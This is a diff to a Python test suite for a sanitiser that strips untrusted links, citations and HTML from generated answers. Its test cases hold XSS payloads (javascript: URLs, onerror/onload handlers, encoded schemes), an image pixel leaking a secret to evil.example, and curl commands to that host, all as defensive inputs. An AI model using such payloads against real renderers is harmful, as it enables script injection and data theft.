@@ -19,7 +19,9 @@ ATOMS = [
     "\n```\n", "\n    ", "    ", "\n- ", "\n> ", "1. ", "|", "=", "'", '"', "www.", "ww", "[9]", " [9]",
     "//evil.example", "[x](https://site.example/p1)", '<a href="//evil.example">', "<!-- ", "<div>\n", "[w](x)",
     "[x](https://evil.example)", "\n[x]: ", "````", "*",
-    "#", "$", "#$https://evil.example/a", "http://localhost:1/", "x[1]", "<img src=", "//", "@", "<br>",
+    "\t", "\u2028", "&#116;", "&colon;", "\\:", "ht", "tps", "~~", "\r", '"onclick=', "](//evil.example", "<https://",
+    "[`x`](https://evil.example)", "| `a|b` ", "dict://evil.example", "\n[x]:\n", "<details>", "\n   ```\n", "\n> ```\n",
+    ".",     "#", "$", "#$https://evil.example/a", "http://localhost:1/", "x[1]", "<img src=", "//", "@", "<br>",
 ]  # fmt: skip
 """What answers are made of where it gets difficult."""
 
@@ -75,12 +77,12 @@ def test_citations_are_counted_in_order_and_invented_ones_go(answer: str, shown:
         ("[click](javascript:alert(1))", "click"),
         ("[data](data:text/html,x)", "data"),
         ("![pixel](https://evil.example/i.png?q=secret)", "pixel"),
-        ("![own](https://site.example/p1)", "own"),
+        ("![own](https://site.example/p1)", "[own](https://site.example/p1)"),
         ("Go to https://evil.example/abc.", f"Go to {LINK_REMOVED}."),
         ("<https://evil.example>", LINK_REMOVED),
-        ("[a]: javascript:alert(1)\nText", "\nText"),
+        ("[a]: javascript:alert(1)\nText", "[a] : javascript:alert(1)\nText"),
         ("[see [1]](https://evil.example)", "see [1]"),
-        ("<a href='https://evil.example'>x</a>", f"< a href='{LINK_REMOVED}'>x < /a>"),
+        ("<a href='https://evil.example'>x</a>", f"< a href='{LINK_REMOVED}'>x< /a>"),
         ("`curl https://evil.example`", "`curl https:// evil.example`"),
         ("```\ncurl https://evil.example\n```", "```\ncurl https:// evil.example\n```"),
         ("Type ``` first, [x](https://evil.example)", "Type ``` first, x"),
@@ -92,15 +94,15 @@ def test_citations_are_counted_in_order_and_invented_ones_go(answer: str, shown:
         ("So:\n\n    curl https://evil.example", f"So:\n\n    curl {LINK_REMOVED}"),
         ("Go to www.evil.example/a, or WWW.partner.example", f"Go to {LINK_REMOVED}, or {LINK_REMOVED}"),
         ("ftp://evil.example/a", LINK_REMOVED),
-        ("<ftp://evil.example> and <tel:1>", f"{LINK_REMOVED} and {LINK_REMOVED}"),
-        ('<a href="//evil.example">here</a>', '< a href="// evil.example">here < /a>'),
+        ("<ftp://evil.example> and <tel:1>", f"{LINK_REMOVED} and < tel:1>"),
+        ('<a href="//evil.example">here</a>', '< a href="// evil.example">here< /a>'),
         ("<kbd>Ctrl</kbd>, a<br>b", "<kbd>Ctrl</kbd>, a<br>b"),
         ("<img src=' //evil.example/i'>", "< img src=' // evil.example/i'>"),
-        ("<img/src=//evil.example>", "< img/src= // evil.example>"),
-        ('<img alt="a"src=//evil.example>', '< img alt="a"src= // evil.example>'),
+        ("<img/src=//evil.example>", "< img/src=// evil.example>"),
+        ('<img alt="a"src=//evil.example>', '< img alt="a"src=// evil.example>'),
         ("<svg onload=alert(1)>", "< svg onload=alert(1)>"),
         ("<br onclick=alert(1)>", "< br onclick=alert(1)>"),
-        ("<img\rsrc=x\fonerror=alert(1)>", "< img\rsrc=x\fonerror=alert(1)>"),
+        ("<img\rsrc=x\fonerror=alert(1)>", "< imgsrc=x onerror=alert(1)>"),
         ("https://site.example/p1#$https://evil.example/login", LINK_REMOVED * 2),
         ("[x](https://site.example/p1#https://evil.example)", "x"),
         ("https://ſite.example/p1 and https://site.example/P1", f"{LINK_REMOVED} and {LINK_REMOVED}"),
@@ -116,15 +118,27 @@ def test_citations_are_counted_in_order_and_invented_ones_go(answer: str, shown:
             f"Use https://example.com/api, not {LINK_REMOVED}",
         ),
         ("https://localhost.evil.example/ http://example.com@evil.example/", f"{LINK_REMOVED} {LINK_REMOVED}"),
-        ("[two\nlines](//evil.example)", "[two\nlines], (// evil.example)"),
+        ("[two\nlines](//evil.example)", f"[two\nlines] {LINK_REMOVED}"),
         ("[x] (javascript:alert(1)) and [1] (see: this)", "[x], (javascript:alert(1)) and [1] (see: this)"),
-        ("[x] (java&#115;cript:alert(1))", "[x], (java&#115;cript:alert(1))"),
-        ("> [r]: //evil.example/x", "> "),
+        ("[x] (java&#115;cript:alert(1))", "[x], (java& #115;cript:alert(1))"),
+        ("> [r]: //evil.example/x", "> [r] : // evil.example/x"),
         ("[r]:\n//evil.example/x", "[r] :\n// evil.example/x"),
         ("[page](https://site.example/p1 '[x](//evil.example)')", "[page](https://site.example/p1)"),
         ("[![x](https://evil.example/i)](https://site.example/p1)", "[x](https://site.example/p1)"),
-        ("https:[9]//evil.example", "https: // evil.example"),
-        ("ww[w.](x)evil.example", "ww w. evil.example"),
+        ("https:[9]//evil.example", "https:[9]// evil.example"),
+        ("ww[w.](x)evil.example", "ww w.evil.example"),
+        ("[w](x)ww.evil.example [x [y]](//evil.example)", f"{LINK_REMOVED} [x [y]] {LINK_REMOVED}"),
+        ("[`f()`](https://evil.example/a) and [**b**](b.md)", "`f()` and **b**"),
+        ('[x] (//evil.example) [y] (z"onclick=alert(1))', '[x], (// evil.example) [y], (z"onclick=alert(1))'),
+        ('[a](x"onclick=alert(1)) ![b>c](//evil.example)', "a b>c"),
+        ("ht&#116;ps://evil.example &copy; R&D &amp;", "ht& #116;ps://evil.example &copy; R&D &amp;"),
+        ("https\\://evil.example dict://evil.example", f"{LINK_REMOVED} {LINK_REMOVED}"),
+        ("https://localhost\t.evil.example", "https://localhost \t.evil.example"),
+        ("https://site.example/p1。それは", "https://site.example/p1 。それは"),
+        ("https://localhost。evil.example", "https://localhost 。evil.example"),
+        ("| `a|b` `<img>` |\n`<b>`", "| `a|b` `< img>` |\n`< b>`"),
+        ("<details>\n```\n<img>\n```", "<details>\n```\n< img>\n```"),
+        ("~~~\u2028```\n<img>\n~~~", "~~~ ```\n< img>\n~~~"),
     ],
 )
 def test_links_lead_only_where_the_passages_do(answer: str, shown: str) -> None:
@@ -194,7 +208,7 @@ def test_plain_text_is_not_held_back() -> None:
 
 def test_a_citation_split_over_tokens_waits_for_its_end() -> None:
     citations = Citations(hits())
-    assert [citations.feed(piece) for piece in ("It says so [", "3", "]", ".")] == ["It says so", "", "", " [1]."]
+    assert [citations.feed(piece) for piece in ("It says so [", "3", "]", ".")] == ["It says so", "", " ", "[1]."]
 
 
 def test_an_unfinished_link_does_not_hold_the_answer_forever() -> None:
